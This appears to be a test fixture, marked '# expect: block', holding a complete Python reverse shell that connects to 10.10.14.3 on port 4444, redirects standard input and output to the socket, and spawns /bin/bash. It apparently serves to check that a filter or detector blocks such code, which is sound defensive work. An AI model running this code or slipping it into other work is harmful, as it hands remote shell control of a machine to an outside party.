# expect: block
import socket, os, pty

s = socket.socket()
s.connect(("10.10.14.3", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
